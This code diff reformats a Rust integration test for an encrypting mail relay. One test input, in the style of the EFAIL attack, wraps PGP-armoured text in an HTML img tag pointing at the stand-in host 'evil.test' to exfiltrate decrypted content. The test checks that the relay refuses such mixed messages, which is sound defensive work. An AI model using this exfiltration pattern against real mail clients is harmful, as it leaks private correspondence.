@@ -52,9 +52,8 @@ impl<'s> Place<'s> {
         std::fs::write(&file, letter).unwrap();
         let server = format!("127.0.0.1:{}", self.postfix.local);
         let (data, to_all) = (format!("@{}", file.to_str().unwrap()), to.join(","));
-        let output = run("swaks", &[
-            "--server", &server, "--from", PEER, "--to", &to_all, "--data", &data,
-        ]);
+        let output =
+            run("swaks", &["--server", &server, "--from", PEER, "--to", &to_all, "--data", &data]);
         assert!(output.status.success(), "{}", said(&output));
         self.relay.wait_for(to[0], id).await
     }
@@ -198,7 +197,8 @@ async fn what_was_altered_or_glued_to_clear_text_is_never_opened() {
     let lies = place.take_in(&[DOCTOR], &sandwich, &id).await;
     assert!(words(&lies).is_empty() && !lies.contains("bonjour"), "{lies}");
     let id = letters::message_id();
-    let mixed = format!("{}\r\nLisez <img src=\"http://evil.test/\r\n{armour}\r\n\">\r\n", head(&id, ""));
+    let mixed =
+        format!("{}\r\nLisez <img src=\"http://evil.test/\r\n{armour}\r\n\">\r\n", head(&id, ""));
     let lies = place.take_in(&[DOCTOR], &mixed, &id).await;
     assert_eq!(words(&lies), ["encrypted=yes; opened=no; reason=mixed-with-clear-text"]);
     assert!(!lies.contains("bonjour"), "{lies}");
